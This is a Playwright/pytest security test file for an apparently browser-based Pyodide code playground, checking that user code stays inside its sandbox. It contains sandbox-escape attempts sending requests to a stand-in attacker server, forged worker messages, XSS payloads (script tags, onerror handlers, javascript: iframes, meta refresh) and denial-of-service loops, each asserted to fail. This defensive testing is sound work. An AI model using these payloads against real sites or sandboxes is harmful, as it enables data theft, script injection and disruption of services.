"""A hostile session: its code tries to reach the page, the account and the network.

A canary server on another port hears whatever gets out; the application's own log is the page's
list of requests. Every attack must end with nothing heard, the page alive and the next run working.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import expect

from tests.e2e.person import Person


class Canary:
    """A server elsewhere that hears what escapes."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        canary = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                canary.heard.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Cross-Origin-Resource-Policy", "cross-origin")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, format: str, *args: object) -> None:
                """Keep the tests' output quiet."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def canary() -> Iterator[Canary]:
    canary = Canary()
    yield canary
    canary.server.shutdown()
    canary.server.server_close()


ESCAPES = {
    "the page's names": """
import js
for name in ("document", "parent", "top", "window", "opener", "frameElement", "localStorage"):
    try:
        getattr(js, name); print("REACHED", name)
    except BaseException: pass
""",
    "requests": """
import js
for address in ("{evil}/fetch", "{app}/api/sessions", "/api/sessions"):
    for mode in ("cors", "no-cors"):
        try:
            await js.fetch(address, mode=mode, credentials="include"); print("REACHED", address)
        except BaseException: pass
""",
    "other ways out": """
import js
from pyodide.code import run_js
for source in (
    "new WebSocket('ws' + '{app}'.slice(4) + '/ws/sessions/x')",
    "new WebSocket('ws' + '{evil}'.slice(4) + '/socket')",
    "new EventSource('{evil}/events')",
    "importScripts('{evil}/script.js')",
    "(() => {{ const x = new XMLHttpRequest(); x.open('GET', '{evil}/xhr', false); x.send(); }})()",
    "new Worker('{evil}/worker.js')",
    "new Worker('data:text/javascript,fetch(`{evil}/data`)')",
    "navigator.sendBeacon('{evil}/beacon')",
    "new BroadcastChannel('x').postMessage('hi')",
    "indexedDB.open('x')",
    "caches.open('x')",
):
    try:
        run_js(source)
    except BaseException: pass
await js.Promise.new(lambda done, fail: js.setTimeout(done, 500))
""",
    "a module from elsewhere": """
from pyodide.code import run_js
try:
    await run_js("import('{evil}/module.js')"); print("REACHED")
except BaseException: pass
""",
    "a worker within": """
from pyodide.code import run_js
try:
    run_js("new Worker(URL.createObjectURL(new Blob(['fetch(`{evil}/nested`)'])))")
    await __import__("asyncio").sleep(0.5)
except BaseException: pass
""",
}


@pytest.mark.parametrize("name", ESCAPES)
def test_code_reaches_nothing(ada: Person, canary: Canary, name: str) -> None:
    asked: list[str] = []
    ada.run("kept = 41")
    ada.saved()
    ada.context.on("request", lambda request: asked.append(request.url))
    outcome = ada.run(ESCAPES[name].format(app=ada.base, evil=canary.url))
    assert "REACHED" not in outcome["stdout"]
    assert canary.heard == []
    assert not any("/api/sessions" == url.removeprefix(ada.base) for url in asked)
    assert not any("/ws/sessions/x" in url for url in asked)
    assert ada.text("kept + 1") == "42"


def test_forged_messages_are_not_believed(ada: Person) -> None:
    outcome = ada.run("""
import js
from pyodide.ffi import to_js
def send(value): js.postMessage(to_js(value, dict_converter=js.Object.fromEntries))
for kind in ("done", "output", "answer", "booted", "dead", "input", "hello", "constructor"):
    for id in (0, 1, 2, "x", None):
        send({"type": kind, "t": kind, "id": id, "run": id, "status": "ok", "value": "FORGED",
              "outputs": [{"type": "stream", "name": "stdout", "text": "FORGED"}]})
"real"
""")
    assert outcome["status"] == "ok"
    assert outcome["result"]["text/plain"] == "'real'"
    assert "FORGED" not in str(outcome)
    expect(ada.page.locator("body")).not_to_contain_text("FORGED FORGED")
    assert ada.text("1 + 1") == "2"


def test_rich_output_runs_no_script_and_asks_nobody(ada: Person, canary: Canary) -> None:
    ada.run(f'''
class Page:
    def _repr_html_(self):
        return """
        <script>top.stolen = parent.stolen = 1; fetch("{canary.url}/script")</script>
        <img src=x onerror="top.stolen = 1"><img src="{canary.url}/img">
        <svg onload="top.stolen = 1"></svg><details open ontoggle="top.stolen = 1">
        <iframe srcdoc="<script>top.stolen = 1</script>"></iframe>
        <iframe src="javascript:top.stolen = 1"></iframe>
        <meta http-equiv="refresh" content="0; url={canary.url}/refresh">
        <link rel="stylesheet" href="{canary.url}/style"><base href="{canary.url}/">
        <form action="{canary.url}/form"><button autofocus>Go</button></form>
        <b>shown</b>"""
Page()
''')
    frame = ada.transcript.locator("iframe").last
    expect(frame).to_have_count(1)
    frame.scroll_into_view_if_needed()
    expect(frame.content_frame.locator("b")).to_have_text("shown")
    ada.page.wait_for_timeout(1_000)
    assert canary.heard == []
    assert ada.page.evaluate("globalThis.stolen ?? null") is None
    assert "/s/" in ada.page.url


def test_text_is_only_text(ada: Person) -> None:
    ada.run("""print('<img src=x onerror="window.stolen = 1">')
globals()['<img src=x onerror="window.stolen = 1">'] = 1
open('<img src=x onerror=window.stolen=1>', 'w').write('x')
raise ValueError('<script>window.stolen = 1</script>')""")
    ada.saved()
    ada.sees("<img src=x onerror=")
    ada.page.wait_for_timeout(500)
    assert ada.page.evaluate("globalThis.stolen ?? null") is None


def test_the_frame_starts_nothing_for_a_stranger(ada: Person) -> None:
    """Opened on its own, with another page as opener, the frame has no origin and runs no code."""
    alone = ada.context.new_page()
    alone.goto("/runtime/frame.html")
    assert alone.evaluate("self.origin") == "null"
    refused = alone.evaluate(
        "(() => { try { return document.cookie } catch { return 'refused' } })()"
    )
    assert refused == "refused"


@pytest.mark.parametrize(
    "attack",
    [
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
        "import signal, pyodide_js\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
        "pyodide_js.setInterruptBuffer(None)\nwhile True: pass",
        "import js\njs.Atomics.wait(js.Int32Array.new(js.SharedArrayBuffer.new(4)), 0, 0)",
        "import js\nwhile True: js.postMessage('x' * 1000)",
        "while True: print('x' * 10_000)",
        "import sys\nsys.modules.clear()\nimport builtins\nvars(builtins).clear()",
        "import builtins\nvars(builtins).clear()",
        "import sys\nfor module in list(sys.modules.values()):\n"
        "    try: vars(module).clear()\n    except Exception: pass",
    ],
    ids=[
        "catch-all",
        "ignored signals",
        "blocked worker",
        "message flood",
        "output flood",
        "no modules",
        "no builtins",
        "empty modules",
    ],
)
def test_nothing_freezes_the_page_or_ends_the_session(ada: Person, attack: str) -> None:
    ada.run("kept = 41")
    ada.saved()
    ada.page.evaluate("source => { globalThis.attack = playground.execute(source) }", attack)
    ada.page.wait_for_timeout(2_000)
    ada.page.evaluate("playground.interrupt()")
    ada.page.evaluate("globalThis.attack.then(() => null, () => null)")
    assert ada.text("kept + 1") == "42"
